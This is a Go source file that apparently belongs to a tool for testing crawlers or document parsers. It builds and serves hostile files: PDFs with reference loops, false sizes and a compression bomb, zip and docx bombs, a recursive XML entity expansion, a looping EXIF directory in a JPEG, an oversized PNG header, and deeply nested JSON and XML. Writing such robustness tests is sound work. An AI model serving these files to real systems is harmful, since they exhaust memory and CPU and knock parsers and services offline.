package attack

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"io"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync"
)

// fileAttacks are sites with documents and images that parsers loop or swell on.
func fileAttacks() []attack {
	serve := func(files map[string]hostileFile) func(*site, http.ResponseWriter, *http.Request) bool {
		for path, f := range files { // each is made once, when it is asked for first
			f.content = sync.OnceValue(f.content)
			files[path] = f
		}
		return func(_ *site, w http.ResponseWriter, r *http.Request) bool {
			f, ok := files[r.URL.Path]
			if ok {
				w.Header().Set("Content-Type", f.mediaType)
				_, _ = w.Write(f.content())
			}
			return ok
		}
	}
	pdfs, others := hostilePDFs(), otherHostileFiles()
	return []attack{
		{name: "hostile-pdfs", what: "PDF files with reference loops and sizes that are not there", links: pathsOf(pdfs), handle: serve(pdfs)},
		{name: "hostile-files", what: "images, office files and feeds that loop, swell or nest", links: pathsOf(others), handle: serve(others)},
	}
}

// hostileFile is made when it is asked for: some are large.
type hostileFile struct {
	mediaType string
	content   func() []byte
}

func pathsOf(files map[string]hostileFile) []string {
	return slices.Sorted(maps.Keys(files))
}

// hostilePDFs returns PDF files by path.
func hostilePDFs() map[string]hostileFile {
	pdf := func(content func() []byte) hostileFile { return hostileFile{"application/pdf", content} }
	return map[string]hostileFile{
		"/object-in-itself.pdf": pdf(func() []byte {
			// Object 1 is said to lie in object stream 1.
			return xrefStreamPDF("/Size 3/W [1 4 2]", []byte{0, 0, 0, 0, 0, 255, 255, 2, 0, 0, 0, 1, 0, 0, 1, 0, 0, 0, 9, 0, 0})
		}),
		"/size.pdf":   pdf(func() []byte { return xrefStreamPDF("/Size 20000000000/W [1 4 2]", nil) }),
		"/widths.pdf": pdf(func() []byte { return xrefStreamPDF("/Size 3/W [1000000000 1000000000 1000000000]", nil) }),
		"/columns.pdf": pdf(func() []byte {
			return xrefStreamPDF("/Size 3/W [1 4 2]/DecodeParms<</Predictor 12/Columns 200000000000>>/Filter/FlateDecode", deflateAll(strings.NewReader("x")))
		}),
		"/own-parent.pdf": pdf(func() []byte {
			return objectsPDF("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>")
		}),
		"/own-kid.pdf": pdf(func() []byte {
			return objectsPDF("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2000000000>>")
		}),
		"/many-pages.pdf": pdf(func() []byte {
			return objectsPDF("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids["+strings.Repeat("3 0 R ", 100_000)+"]/Count 100000>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
		}),
		"/annotations.pdf": pdf(func() []byte {
			annot := "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://127.66.0.1/%d)>>>>"
			var all strings.Builder
			for i := range 60_000 {
				fmt.Fprintf(&all, annot, i)
			}
			return objectsPDF("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots["+all.String()+"]>>")
		}),
		"/bomb.pdf": pdf(func() []byte {
			text := deflateAll(io.MultiReader(strings.NewReader("BT ("), io.LimitReader(letters{}, 256<<20), strings.NewReader(") Tj ET")))
			return objectsPDF("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
				fmt.Sprintf("<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream", len(text), text))
		}),
		"/nested.pdf":    pdf(func() []byte { return objectsPDF(strings.Repeat("[", 1_000_000)) }),
		"/truncated.pdf": pdf(func() []byte { return []byte("%PDF-1.7\n1 0 obj<<") }),
	}
}

// xrefStreamPDF is a file that is only a cross-reference stream.
func xrefStreamPDF(dictionary string, stream []byte) []byte {
	return fmt.Appendf(nil, "%%PDF-1.5\n2 0 obj\n<</Type/XRef%s/Root 1 0 R/Info 1 0 R/Length %d>>\nstream\n%s\nendstream\nendobj\nstartxref\n9\n%%%%EOF\n", dictionary, len(stream), stream)
}

// objectsPDF is a file of numbered objects, the first of which is the catalog.
func objectsPDF(objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	var at []int
	for i, o := range objects {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, a := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", a)
	}
	fmt.Fprintf(&b, "trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, start)
	return b.Bytes()
}

// letters are as many letters as are read.
type letters struct{}

// Read implements io.Reader.
func (letters) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = 'A'
	}
	return len(b), nil
}

func deflateAll(content io.Reader) []byte {
	var out bytes.Buffer
	z := zlib.NewWriter(&out)
	_, _ = io.Copy(z, content)
	_ = z.Close()
	return out.Bytes()
}

// otherHostileFiles returns files of other formats by path.
func otherHostileFiles() map[string]hostileFile {
	const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	return map[string]hostileFile{
		"/ring.jpg":    {"image/jpeg", ringOfDirectories},
		"/huge.png":    {"image/png", hugePNG},
		"/bomb.docx":   {word, func() []byte { return zipMember("word/document.xml", `<w:document><w:t>`, "a ", 200<<20) }},
		"/nested.docx": {word, func() []byte { return zipMember("word/document.xml", `<w:document>`, "<w:p>", 50<<20) }},
		"/entities.odt": {"application/vnd.oasis.opendocument.text", func() []byte {
			return zipMember("content.xml", `<!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b "&a;&a;">]><x>`, "&a;", 1<<20)
		}},
		"/bomb.zip":   {"application/zip", func() []byte { return zipMember("zeros", "", strings.Repeat("\x00", 1024), 256<<20) }},
		"/deep.xml":   {"application/xml", func() []byte { return bytes.Repeat([]byte("<a>"), 2_000_000) }},
		"/feed.atom":  {"application/atom+xml", func() []byte { return bytes.Repeat([]byte("<feed><entry><link href='..;sid=1'/>"), 100_000) }},
		"/deep.json":  {"application/json", func() []byte { return bytes.Repeat([]byte("["), 5_000_000) }},
		"/no-text":    {"text/plain", func() []byte { return bytes.Repeat([]byte{0, 255, 254, 13}, 1<<20) }},
		"/one-line":   {"text/plain", func() []byte { return bytes.Repeat([]byte("x"), 8<<20) }},
		"/vector.svg": {"image/svg+xml", func() []byte { return []byte(`<svg xmlns="http://www.w3.org/2000/svg"><use href="#a" id="a"/></svg>`) }},
	}
}

// ringOfDirectories is a JPEG with two EXIF directories that lead to each other.
func ringOfDirectories() []byte {
	directory := func(next uint32) []byte {
		var b []byte
		for _, v := range []uint16{1, 0x100, 3, 1, 0, 0, 0} { // one entry: width, short, 1 value
			b = binary.LittleEndian.AppendUint16(b, v)
		}
		return binary.LittleEndian.AppendUint32(b, next)
	}
	tiff := append([]byte("II*\x00\x08\x00\x00\x00"), append(directory(26), directory(8)...)...)
	out := binary.BigEndian.AppendUint16([]byte{0xff, 0xd8, 0xff, 0xe1}, uint16(len(tiff)+8))
	return append(append(append(out, "Exif\x00\x00"...), tiff...), 0xff, 0xd9)
}

// hugePNG says that it is 100,000 by 100,000 pixels.
func hugePNG() []byte {
	out := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	out = binary.BigEndian.AppendUint32(out, 100_000)
	out = binary.BigEndian.AppendUint32(out, 100_000)
	return append(out, 8, 6, 0, 0, 0, 0, 0, 0, 0)
}

// zipMember is an archive of one member that begins with head and repeats a piece
// up to a size.
func zipMember(name, head, piece string, size int) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	w, err := z.Create(name)
	if err != nil {
		return nil
	}
	_, _ = io.WriteString(w, head)
	block := bytes.Repeat([]byte(piece), 1+(1<<20)/len(piece))
	for n := 0; n < size; n += len(block) {
		_, _ = w.Write(block)
	}
	_ = z.Close()
	return out.Bytes()
}
